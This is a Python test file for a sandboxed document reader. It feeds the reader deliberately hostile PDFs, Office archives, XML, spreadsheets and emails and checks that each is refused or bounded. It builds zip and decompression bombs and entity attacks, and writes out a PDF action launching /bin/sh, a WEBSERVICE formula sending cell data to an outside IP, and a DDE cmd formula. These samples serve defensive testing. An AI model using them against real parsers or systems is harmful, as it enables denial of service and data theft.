"""Files that were made to do harm, through the sandbox as a region reads them.

Each is refused with a reason, or read within its bounds; whatever it did, the next file is read.
"""

from __future__ import annotations

import random
import struct
import zipfile
import zlib

import pytest

from casemate.cells.extract import bounds
from casemate.engines.sandbox import Limits
from casemate.knowledge.reading.extract import Extracted
from tests.attacks.hostile import DECLARES, ENTITIES, GOOD, PARTS, outcomes, told, why, with_member
from tests.cells import made
from tests.engines.sandboxed import needs_kernel

pytestmark = needs_kernel


class TestPdf:
    def test_objects_inside_each_other(self):
        deep = b"[" * 200_000 + b"]" * 200_000
        data = made.objects(b"<</Type/Catalog/Pages 2 0 R/X 3 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>", deep)
        assert why("a.pdf", data).endswith(".")

    def test_pages_that_hold_each_other(self):
        data = made.objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]>>")
        assert why("a.pdf", data).endswith(".")

    def test_one_page_more_than_may_be(self):
        leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
        kids = b" ".join(b"%d 0 R" % (3 + at) for at in range(bounds.PAGES + 1))
        tree = b"<</Type/Pages/Count %d/Kids[%b]>>" % (bounds.PAGES + 1, kids)
        data = made.objects(b"<</Type/Catalog/Pages 2 0 R>>", tree, *[leaf] * (bounds.PAGES + 1))
        assert why("a.pdf", data) == "It holds more than 10,000 pages."

    def test_as_many_pages_as_may_be(self):
        (found,) = outcomes(
            ("a.pdf", made.pdf([[(72, 600, 10, "text")]] * bounds.PAGES)), limits=Limits(memory=2 << 30)
        )
        assert isinstance(found, Extracted)
        assert len(found.parts[0].pages) == bounds.PAGES

    def test_a_count_of_pages_that_lies(self):
        leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
        tree = b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>"
        assert why("a.pdf", made.objects(b"<</Type/Catalog/Pages 2 0 R>>", tree, leaf)).endswith(".")

    @pytest.mark.parametrize("twice", [False, True])
    def test_a_stream_that_unpacks_to_too_much(self, twice):
        page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
        body = zlib.compress(b" " * (200 << 20), 9)
        filters = b"/Filter/FlateDecode"
        if twice:
            body, filters = zlib.compress(body, 9), b"/Filter[/FlateDecode/FlateDecode]"
        tree = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>")
        data = made.objects(*tree, page, made.stream(body, filters))
        assert len(data) < 1 << 20
        assert why("a.pdf", data, Limits(memory=384 << 20, cpu=30)).endswith(".")

    def test_scripts_forms_and_files_in_it_are_not_touched(self):
        data = made.pdf([[(72, 600, 10, "text")]]).replace(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
            b"/AA<</O<</S/Launch/F(/bin/sh)>>>>>>",
        )
        assert told("a.pdf", data) == ["text"]


class TestArchives:
    @pytest.mark.parametrize("kind", GOOD)
    def test_a_member_that_unpacks_to_a_thousand_times_its_size(self, kind):
        data = with_member(kind, PARTS[kind][0], bytes(40 << 20))
        assert why(f"a.{kind}", data) == "A member of its archive unpacks to more than 250 times its size."

    @pytest.mark.parametrize("kind", GOOD)
    def test_archives_inside_archives(self, kind):
        bomb = bytes(30 << 20)
        for _ in range(3):
            bomb = made.archive({"inner.zip": bomb})
        folder = PARTS[kind][0].partition("/")[0]
        assert told(f"a.{kind}", with_member(kind, f"{folder}/media/bomb.zip", bomb))[-1] == "text"
        assert why(f"a.{kind}", with_member(kind, f"{folder}/embeddings/bomb.zip", bomb)) == (
            "It holds an object of another program, 'bomb.zip', that is not read."
        )

    def test_more_members_than_may_be(self):
        data = made.archive({f"m{at}": b"" for at in range(bounds.ENTRIES + 1)}, zipfile.ZIP_STORED)
        assert why("a.docx", data) == "It holds more than 10,000 members in its archive."

    def test_members_that_overlap(self):
        """As D. Fifield's bomb has it: each entry of the directory points to one packed body."""
        packed = zlib.compress(b"x" * (1 << 20), 9)[2:-4]
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(packed), 1 << 20, 1, 0) + b"m" + packed
        directory = b"".join(
            struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(packed), 1 << 20, 4, 0, 0, 0, 0, 0, 0
            )
            + b"m%03d" % at
            for at in range(200)
        )
        end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 200, 200, len(directory), len(local), 0)
        assert why("a.docx", local + directory + end) == "Its archive holds members that overlap."

    @pytest.mark.parametrize("size", [0, 7, 1 << 19, 0xFFFFFFF0])
    def test_sizes_that_lie(self, size):
        data = bytearray(GOOD["docx"])
        central = data.rindex(b"word/document.xml") - 46
        struct.pack_into("<I", data, central + 24, size)
        assert why("a.docx", bytes(data))

    def test_one_slide_shown_again_and_again(self):
        slide = made.slide(made.shape(*["word " * 200] * 500))
        found = made.members(GOOD["pptx"]) | {"ppt/slides/slide0.xml": slide}
        ids = '<p:sldId r:id="s0"/>' * 9_000
        space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        found["ppt/presentation.xml"] = (
            f'<p:presentation xmlns:p="{made.P}" xmlns:r="{space}">{ids}</p:presentation>'.encode()
        )
        assert why("a.pptx", made.archive(found)) == "It holds more than 10,000,000 characters of text."


class TestXml:
    @pytest.mark.parametrize("entity", ENTITIES)
    @pytest.mark.parametrize("kind", GOOD)
    def test_entities_in_every_member(self, kind, entity):
        data = ENTITIES[entity].encode()
        files = [(f"a.{kind}", with_member(kind, member, data)) for member in PARTS[kind]]
        assert outcomes(*files) == [DECLARES] * len(files)

    @pytest.mark.parametrize("entity", ENTITIES)
    def test_entities_in_tei(self, entity):
        text = ENTITIES[entity].replace("<x>", "<TEI><text>").replace("</x>", "</text></TEI>").replace("<x/>", "<TEI/>")
        assert why("a.xml", text.encode()) == DECLARES

    @pytest.mark.parametrize("kind", GOOD)
    def test_elements_inside_each_other(self, kind):
        data = b"<a>" * 50_000 + b"</a>" * 50_000
        assert (
            why(f"a.{kind}", with_member(kind, PARTS[kind][0], data))
            == "It holds more than 256 elements inside each other."
        )

    def test_attributes_without_end(self):
        data = b"<x " + b" ".join(b'a%d="b"' % at for at in range(200_000)) + b"/>"
        assert told("a.docx", with_member("docx", "word/document.xml", data)) == ["head"]


class TestSpreadsheets:
    def test_a_sheet_that_claims_to_be_as_large_as_one_can_be(self):
        assert told("a.xlsx", made.xlsx(made.sheet(made.row("few")))) == ["few"]  # its dimension says XFD1048576

    def test_cells_at_the_far_end(self):
        cell = '<c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c>'
        assert told("a.xlsx", made.xlsx(made.sheet(f'<row r="1048576">{cell}</row>'))) == ["far"]

    def test_a_shared_text_that_every_cell_shows(self):
        shared = f"<si><t>{random.Random(7).randbytes(250_000).hex()}</t></si>"
        rows = made.row(*['<c t="s"><v>0</v></c>'] * 1_000) * 30
        assert why("a.xlsx", made.xlsx(made.sheet(rows), strings=shared)) == (
            "It holds more than 1,000,000 characters in one row."
        )
        rows = made.row('<c t="s"><v>0</v></c>') * 10_000
        assert why("a.xlsx", made.xlsx(made.sheet(rows), strings=shared)) == (
            "It holds more than 10,000,000 characters of text."
        )

    def test_shared_texts_without_end(self):
        rng = random.Random(7)
        strings = "".join(f"<si><t>{rng.random()}</t></si>" for _ in range(120_000))
        assert told("a.xlsx", made.xlsx(made.sheet(made.row("few")), strings=strings)) == ["few"]

    def test_formulas_are_text(self):
        cells = [
            '<c t="str"><f>WEBSERVICE("http://198.51.100.7/?"&amp;A1)</f><v>saved</v></c>',
            "<c><f>cmd|' /C calc'!A0</f></c>",
        ]
        assert told("a.xlsx", made.xlsx(made.sheet(made.row(*cells)))) == ["saved\n=cmd|' /C calc'!A0"]


class TestMacros:
    @pytest.mark.parametrize("kind", GOOD)
    def test_are_refused(self, kind):
        folder = PARTS[kind][0].partition("/")[0]
        files = [
            (f"a.{kind[:-1]}m", GOOD[kind]),
            (f"a.{kind}", with_member(kind, f"{folder}/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
        ]
        assert outcomes(*files) == ["It holds macros; save it without them."] * 2

    @pytest.mark.parametrize("kind", GOOD)
    def test_objects_and_what_lies_outside_are_refused(self, kind):
        folder = PARTS[kind][0].partition("/")[0]
        rels = made.relations(("t", "attachedTemplate", "http://198.51.100.7/t.dotm"), outside=True)
        ole, outside = outcomes(
            (f"a.{kind}", with_member(kind, f"{folder}/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
            (f"a.{kind}", with_member(kind, f"{folder}/_rels/settings.xml.rels", rels)),
        )
        assert ole == "It holds an object of another program, 'oleObject1.bin', that is not read."
        assert outside == "It refers to content outside of it (attachedTemplate), which is not fetched."


class TestMessages:
    def test_inside_each_other(self):
        data = made.message("innermost")
        for _ in range(8):
            data = made.message("text", ("inner.eml", data))
        assert why("a.eml", data).endswith("It holds more than 3 files inside each other.")

    def test_forwarded_without_end(self):
        data = b"Subject: x\nContent-Type: message/rfc822\n\n" * 5_000
        assert why("a.eml", data).endswith(".")

    def test_boundaries_without_end(self):
        data = b"Subject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\n" * 5_000
        assert why("a.eml", data) == "It holds more than 500 bodies."

    def test_a_bomb_that_is_attached(self):
        bomb = with_member("docx", "word/document.xml", bytes(40 << 20))
        assert why("a.eml", made.message("text", ("a.docx", bomb))) == (
            "Its attachment 'a.docx' cannot be read: A member of its archive unpacks to more than 250 times its size."
        )

    def test_many_that_are_each_within_the_bounds(self):
        rng = random.Random(3)
        words = " ".join(str(rng.random()) for _ in range(100_000))
        attached = [("a.docx", made.docx(made.p(words[at:]) * 2)) for at in range(4)]
        assert why("a.eml", made.message("text", *attached)).endswith("characters in one paragraph.")
        attached = [("a.txt", (b"word " * 150_000 + b"\n\n") * 4)] * 4
        assert why("a.eml", made.message("text", *attached)) == "It holds more than 10,000,000 characters of text."

    def test_a_document_in_a_message_in_a_message(self):
        inner = made.message("inner", ("a.docx", GOOD["docx"]))
        assert told("a.eml", made.message("outer", ("b.eml", inner)))[-2:] == ["head", "text"]
